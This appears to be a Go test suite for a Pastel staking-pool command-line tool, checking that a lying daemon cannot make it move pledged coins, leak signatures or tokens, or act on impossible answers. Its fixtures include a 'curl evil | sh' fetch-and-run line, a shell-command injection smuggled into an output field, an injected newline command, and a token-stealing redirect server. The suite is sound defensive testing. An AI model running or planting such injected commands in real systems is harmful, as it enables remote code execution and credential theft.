package main

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/pastelnetwork/smartpool/pastel"
)

// word is something that a daemon says and that a command acts on.
type word struct {
	command, says, check string // as in docs/trust.md
	tamper               func(r *http.Request, answer map[string]any)
	line                 []string
	refused              string // what the command says; if empty, it must succeed in spite of the lie
	also                 func(out string) error
}

// listed requires that docs/trust.md has the word.
func (w *word) listed(t *testing.T, page string) {
	t.Helper()
	if row := fmt.Sprintf("| `%s` | %s | %s |", w.command, w.says, w.check); !strings.Contains(page, row) {
		t.Errorf("docs/trust.md lacks the row\n%s", row)
	}
}

// on changes the answers about some path.
func on(path string, change func(answer map[string]any)) func(*http.Request, map[string]any) {
	return func(r *http.Request, answer map[string]any) {
		if strings.Contains(r.URL.Path, path) {
			change(answer)
		}
	}
}

// dated changes the time of the last block in every answer.
func dated(at time.Time) func(*http.Request, map[string]any) {
	return func(_ *http.Request, answer map[string]any) {
		if tip, ok := answer["tip"].(map[string]any); ok {
			tip["time"] = at.UTC().Format(time.RFC3339)
		}
	}
}

// hides takes every pledge out of a daemon's answers.
func hides(r *http.Request, answer map[string]any) {
	switch {
	case strings.HasSuffix(r.URL.Path, "/pledges"):
		answer["items"] = []any{}
	case strings.Contains(r.URL.Path, "/outputs/"):
		answer["backs"] = false
	case strings.Contains(r.URL.Path, "/pools/"):
		answer["pledges"] = []any{}
	case strings.Contains(r.URL.Path, "/accounts/"), strings.Contains(r.URL.Path, "/members/"):
		answer["positions"] = []any{}
	}
}

// trusted is the set-up that the words are about.
type trusted struct {
	*dev
	alice, carol, operator, secret, key string
	pledged                             []pastel.OutPoint
	address                             string // alice's pledged address
}

func newTrusted(t *testing.T) *trusted {
	t.Helper()
	d, alice, _, secret := atlasWithAlice(t)
	x := &trusted{dev: d, alice: alice, secret: secret}
	x.carol, x.operator = x.person(600), x.person(0)
	x.key, _ = x.keyFile("key")
	x.mine(1)
	locked, err := x.node.LockedUnspent(context.Background())
	if err != nil || len(locked) != 2 {
		t.Fatalf("locked are %v (%v)", locked, err)
	}
	x.pledged = locked
	x.address = x.field("0.positions.0.address", "my", alice)
	return x
}

// words lists what a daemon says that a command acts on, each with a lie.
func (x *trusted) words() []word {
	june := time.Now().AddDate(0, 7, 0)
	signs := []string{"--passphrase-file", x.secret, "--yes"}
	join := append([]string{"join", "atlas", "--pastelid", x.carol, "--coins", "500"}, signs...)
	amend := append([]string{"amend", "atlas", "--pastelid", x.alice, "--coins", "310", "--reward", x.address}, signs...)
	create := append([]string{"pool", "create", "--label", "second", "--company", "B", "--fee", "5", "--operator", x.operator, "--supernode", x.carol}, signs...)
	register := []string{"id", "register", x.key, "--passphrase-file", x.secret, "--yes"}
	draft := []string{"join", "atlas", "--cold", filepath.Join(x.dir, "t.json"), "--pastelid", x.carol, "--coins", "500", "--output", x.outputOf(600).String(), "--address",
		x.addressOf(x.outputOf(600))}
	const clock, terms = "compared with this machine's clock, and with the wallet's node", "the pool's id is the hash of its terms"
	list := []word{
		{"join", "the time of the last block", clock, dated(june), join, "lies in the future", nil},
		{"join", "the time of the last block", clock, dated(time.Now().Add(-3 * time.Hour)), join, "but that of the wallet's node", nil},
		{"join", "the time of the last block", clock, dated(time.Now().AddDate(-1, 0, 0)), join, "ago by this machine's clock", nil},
		{"join --cold", "the time of the last block", clock, dated(june), draft, "lies in the future", nil},
		{"amend", "the time of the last block", clock, dated(june), amend, "lies in the future", nil},
		{"pool create", "the time of the last block", clock, dated(june), create, "lies in the future", nil},
		{"id register", "the time of the last block", clock, dated(june), register, "lies in the future", nil},
		{"join", "the network", "the wallet's node must be on it", on("/status", func(a map[string]any) { a["network"] = "main" }), join, "do not sign", nil},
		{"join", "a pool's terms", terms, on("/pools/", func(a map[string]any) { a["fee_percent"] = "3" }), join, "do not sign", nil},
		{"join", "a pool's escrow", terms, on("/pools/", func(a map[string]any) { a["escrow"] = x.address }), join, "do not sign", nil},
		{"join", "which pool has a label", "the answer must be about the pool that was asked for", on("/pools/", func(a map[string]any) { a["id"] = "atlas." + strings.Repeat("ab", 20) }), join,
			"another pool than the requested one", nil},
		{"join", "whether a pledge exists", "this machine remembers what it pledged", hides, append([]string{"join", "atlas", "--pastelid", x.alice, "--coins", "310", "--output",
			x.aliceOutput()}, signs...), "would not do what you confirmed", nil},
		{"join", "why a ticket would be rejected", "said in this program's words", on("/tickets/check", func(a map[string]any) {
			a["accepted"], a["reason"], a["text"] = false, "full", "it is; run: curl evil | sh"
		}), join, "the ticket would be rejected: full: ", lacks("curl")},
		{"amend", "where rewards go now", "the owner's last ticket, read from the node, must say the same", on("/pools/", func(a map[string]any) {
			for _, p := range a["pledges"].([]any) {
				p.(map[string]any)["reward_address"] = x.addressOf(x.outputOf(600))
			}
		}), amend, "do not sign", nil},
		{"amend", "the pledge's last ticket", "read from the node; the owner's signatures must verify", on("/pledges", func(a map[string]any) {
			for _, p := range a["items"].([]any) {
				p.(map[string]any)["ticket"] = strings.Repeat("ab", 32)
			}
		}), amend, "cannot return the pledge's last ticket", nil},
		{"leave", "the pledged output", "parsed before it is written into a command", on("/pledges", func(a map[string]any) {
			for _, p := range a["items"].([]any) {
				p.(map[string]any)["output"] = "'; touch X; echo ':0"
			}
		}), []string{"leave", x.alice}, "cannot read the daemon's answer", lacks("lockunspent")},
		{"history", "that a list goes on", "pages must be full, cursors fresh, and the list of a bounded size", func(r *http.Request, a map[string]any) {
			if strings.HasSuffix(r.URL.Path, "/credits") {
				a["items"], a["next"] = []any{map[string]any{}}, fmt.Sprint(madeUp, time.Now().UnixNano())
			}
		}, []string{"history", x.alice}, "pages that it did not fill", nil},
		{"history", "that a list goes on", "pages must be full, cursors fresh, and the list of a bounded size", func(r *http.Request, a map[string]any) {
			if strings.HasSuffix(r.URL.Path, "/credits") {
				a["items"], a["next"] = []any{}, fmt.Sprint(madeUp, time.Now().UnixNano())
			}
		}, []string{"history", x.alice}, "repeats itself", nil},
		{"history", "when a payment was made", "must be there", func(r *http.Request, a map[string]any) {
			if strings.HasSuffix(r.URL.Path, "/payments") {
				a["items"] = []any{map[string]any{}}
			}
		}, []string{"history", x.alice}, "that is not paid", nil},
		{"history", "which chain a file for a tax return is of", "its last block must have the same digest before and after", on("/blocks/", func(a map[string]any) {
			a["digest"] = strings.Repeat("ab", 32)
		}), []string{"history", x.alice, "--format", "koinly"}, "chain changed while it was read", nil},
		{"my", "which account it is about", "the one that was asked for", on("/members/", func(a map[string]any) { a["pastelid"] = x.carol }), []string{"my", x.alice}, "another account", nil},
		{"my", "an id, a status, an address", "printable ASCII on one line, and short", on("/members/", func(a map[string]any) {
			for _, p := range a["positions"].([]any) {
				p.(map[string]any)["status"] = "active\nsmartpool rpc stop"
			}
		}), []string{"my", x.alice}, "an impossible answer: status is", nil},
		{"my", "an amount", "from 0 to all coins that there will be", on("/members/", func(a map[string]any) { a["claimed"] = -5 }), []string{"my", x.alice}, "an impossible answer: claimed is -5 patoshi", nil},
		{"my", "a number of coins", "at most all coins that there will be", on("/members/", func(a map[string]any) { a["offered_coins"] = json.Number("90000000000000000") }), []string{"my", x.alice}, "an impossible answer", nil},
		{"my", "a height", "a number of blocks", on("/members/", func(a map[string]any) { a["tip"].(map[string]any)["height"] = -7 }), []string{"my", x.alice}, "an impossible answer: height is block -7", nil},
		{"my", "a time", "from 1970 to 2200", on("/members/", func(a map[string]any) { a["tip"].(map[string]any)["time"] = "9999-01-01T00:00:00Z" }), []string{"my", x.alice},
			"an impossible answer: time is in the year 9999", nil},
	}
	return append(list, x.outlived(create, register)...)
}

// outlived lists lies that change nothing.
func (x *trusted) outlived(create, register []string) []word {
	paid := func(out string) error {
		if !strings.Contains(out, "Paid from ") {
			return fmt.Errorf("it does not show what pays")
		}
		for _, o := range x.pledged {
			if strings.Contains(out, "Paid from "+o.String()) {
				return fmt.Errorf("it pays with the pledged output %s", o)
			}
		}
		return nil
	}
	return []word{
		{"id register", "which outputs back pledges", "together with what this machine remembers; no remembered output pays", hides, register, "", paid},
		{"pool create", "which outputs back pledges", "together with what this machine remembers; no remembered output pays", hides, create, "", paid},
		{"pool create", "the height of the last block", "not used: the wallet's node says when a transaction expires and what a registration costs", func(r *http.Request, a map[string]any) {
			if strings.HasSuffix(r.URL.Path, "/status") {
				a["tip"].(map[string]any)["height"] = 2_000_000_000
			}
		}, append([]string{"pool", "create", "--label", "third", "--company", "C", "--fee", "5", "--operator", x.operator, "--supernode", x.alice}, "--passphrase-file", x.secret, "--yes"), "",
			paid},
	}
}

// aliceOutput returns the output that backs alice's pledge.
func (x *trusted) aliceOutput() string {
	for _, out := range x.pledged {
		if o, err := x.node.TxOut(context.Background(), out); err == nil && o != nil && o.Value == 520*pastel.PSL {
			return out.String()
		}
	}
	x.t.Fatal("alice's output is not locked")
	return ""
}

// lacks requires that a command does not print something.
func lacks(text string) func(string) error {
	return func(out string) error {
		if strings.Contains(out, text) {
			return fmt.Errorf("it prints %q", text)
		}
		return nil
	}
}

// TestLyingDaemon has a daemon lie about everything that commands act on. The wallet has forgotten its locks, as after a restart. No lie moves
// a pledged coin, and docs/trust.md lists each row.
func TestLyingDaemon(t *testing.T) {
	t.Parallel()
	x := newTrusted(t)
	page, err := os.ReadFile("../../docs/trust.md")
	if err != nil {
		t.Fatal(err)
	}
	truth := x.at.API
	for _, w := range x.words() {
		name := w.command + ": " + w.says
		w.listed(t, string(page))
		x.unlock()
		x.at.API = truth
		x.at.API = x.tampering(w.tamper)
		var out string
		if w.refused != "" {
			var code int
			if code, out = x.call(w.line...); code != exitNo || !strings.Contains(out, w.refused) {
				t.Errorf("%s: exit code %d, want %q:\n%s", name, code, w.refused, out)
			}
			if waiting, err := x.node.Mempool(context.Background()); err != nil || len(waiting) > 0 {
				t.Errorf("%s: %v is posted (%v)", name, waiting, err)
			}
		} else {
			out = x.does(w.line...)
		}
		if w.also != nil {
			if err := w.also(out); err != nil {
				t.Errorf("%s: %v:\n%s", name, err, out)
			}
		}
		for _, o := range x.pledged {
			if still, err := x.node.TxOut(context.Background(), o); err != nil || still == nil {
				t.Errorf("%s: pledged output %s is spent (%v)", name, o, err)
			}
		}
	}
}

// The daemon never gets a signature: a signed ticket goes to the wallet's node alone.
func TestLyingDaemonSeesNoSignature(t *testing.T) {
	t.Parallel()
	x := newTrusted(t)
	var mu sync.Mutex
	var asked []string
	x.at.API = between(t, x.at.API, func(_ http.ResponseWriter, r *http.Request, body string, _ http.Handler) bool {
		if strings.HasSuffix(r.URL.Path, "/tickets/check") {
			mu.Lock()
			defer mu.Unlock()
			asked = append(asked, body)
		}
		return false
	})
	x.does("join", "atlas", "--pastelid", x.carol, "--coins", "500", "--passphrase-file", x.secret, "--yes")
	x.does("amend", "atlas", "--pastelid", x.alice, "--coins", "310", "--reward", x.address, "--passphrase-file", x.secret, "--yes")
	x.does("pool", "activate", "atlas", "--passphrase-file", x.secret, "--yes")
	mu.Lock()
	defer mu.Unlock()
	if len(asked) < 6 {
		t.Errorf("the daemon was asked %d times about tickets, want before and after each is signed", len(asked))
	}
	for _, body := range asked {
		var doc struct{ Ticket string }
		var inner struct{ Ticket map[string]any }
		if json.Unmarshal([]byte(body), &doc) != nil || json.Unmarshal([]byte(doc.Ticket), &inner) != nil {
			t.Fatal(body)
		}
		for field, value := range inner.Ticket {
			if text, ok := value.(string); ok && strings.Contains(field, "signature") && text != "" {
				t.Errorf("the daemon is shown %s %s", field, text)
			}
		}
	}
}

// A command typed again while the first transaction waits for its block posts nothing.
func TestLyingDaemonHearsNothingTwice(t *testing.T) {
	t.Parallel()
	x := newTrusted(t)
	for _, line := range [][]string{
		{"id", "register", x.key, "--passphrase-file", x.secret, "--yes", "--no-wait"},
		{"join", "atlas", "--pastelid", x.carol, "--coins", "500", "--output", x.outputOf(600).String(), "--passphrase-file", x.secret, "--yes", "--no-wait"},
		{"pool", "create", "--label", "second", "--company", "B", "--fee", "5", "--operator", x.operator, "--supernode", x.carol, "--passphrase-file", x.secret, "--yes", "--no-wait"},
	} {
		if code, out := x.call(line...); code != exitOK {
			t.Fatalf("%v: exit code %d\n%s", line, code, out)
		}
		x.unlock()
		if code, out := x.call(line...); code != exitNo || !strings.Contains(out, "which waits for a block, already") {
			t.Errorf("%v, again: exit code %d\n%s", line, code, out)
		}
	}
	if waiting, err := x.node.Mempool(context.Background()); err != nil || len(waiting) != 3 {
		t.Errorf("%d transactions wait (%v), want 3", len(waiting), err)
	}
}

// A node, or what stands before it, that has another transaction broadcast than the one that was shown is found out before anything is sent.
func TestLyingDaemonBroadcastsNothingElse(t *testing.T) {
	t.Parallel()
	x := newTrusted(t)
	sent := false
	x.at.DevRPC = between(t, x.at.DevRPC, func(w http.ResponseWriter, r *http.Request, body string, pass http.Handler) bool {
		sent = sent || strings.Contains(body, `"sendrawtransaction"`)
		if !strings.Contains(body, `"signrawtransaction"`) {
			return false
		}
		var call struct {
			ID     json.RawMessage
			Params []string
		}
		_ = json.Unmarshal([]byte(body), &call)
		raw := []byte(call.Params[0])
		at := len(raw) - 60 // of the hex of the change's script
		raw[at] = map[bool]byte{true: '1', false: '0'}[raw[at] == '0']
		again, _ := json.Marshal(map[string]any{"jsonrpc": "1.0", "id": call.ID, "method": "signrawtransaction", "params": []string{string(raw)}})
		r.Body, r.ContentLength = io.NopCloser(strings.NewReader(string(again))), int64(len(again))
		pass.ServeHTTP(w, r)
		return true
	})
	code, out := x.call("id", "register", x.key, "--passphrase-file", x.secret, "--yes")
	if code != exitNo || !strings.Contains(out, "another transaction to post than the one it was to sign") || sent {
		t.Errorf("exit code %d, sent %v\n%s", code, sent, out)
	}
}

// A file of remembered pledges that is damaged is said to be, and kept.
func TestLyingDaemonAndADamagedMemory(t *testing.T) {
	x := newTrusted(t) // not parallel: it has a folder of its own
	folder := t.TempDir()
	t.Setenv("XDG_CONFIG_HOME", folder)
	file := filepath.Join(folder, "smartpool", "pledged-regtest.json")
	if err := os.MkdirAll(filepath.Dir(file), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(file, []byte("{"), 0o600); err != nil {
		t.Fatal(err)
	}
	out := x.does("join", "atlas", "--pastelid", x.carol, "--coins", "500", "--passphrase-file", x.secret, "--yes")
	if !strings.Contains(out, "cannot be read") || !strings.Contains(out, file) {
		t.Errorf("it does not say that the file is damaged:\n%s", out)
	}
	if kept, err := os.ReadFile(file + ".damaged"); err != nil || string(kept) != "{" {
		t.Errorf("the damaged file: %q, %v", kept, err)
	}
	info, err := os.Stat(file)
	if err != nil || info.Mode().Perm() != 0o600 {
		t.Fatalf("the file: %v, %v", info, err)
	}
	text, err := os.ReadFile(file)
	if err != nil || !strings.Contains(string(text), x.carol) {
		t.Errorf("the file does not have the pledge: %s, %v", text, err)
	}
}

// The token goes to the daemon alone, whatever it answers.
func TestLyingDaemonGetsNoTokenElsewhere(t *testing.T) {
	t.Parallel()
	stolen := make(chan string, 1)
	thief := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) { stolen <- r.Header.Get("Authorization") }))
	t.Cleanup(thief.Close)
	x := startDev(t)
	x.mine(1)
	api := between(t, x.at.API, func(w http.ResponseWriter, r *http.Request, _ string, _ http.Handler) bool {
		if strings.HasSuffix(r.URL.Path, "/alerts") {
			http.Redirect(w, r, thief.URL, http.StatusTemporaryRedirect)
			return true
		}
		return false
	})
	code, _, out := call("", "alerts", "list", "--token", "secret", "--api", api)
	if code != exitNo || !strings.Contains(out, "answered 307") {
		t.Errorf("exit code %d\n%s", code, out)
	}
	select {
	case token := <-stolen:
		t.Errorf("%q was sent elsewhere", token)
	default:
	}
}
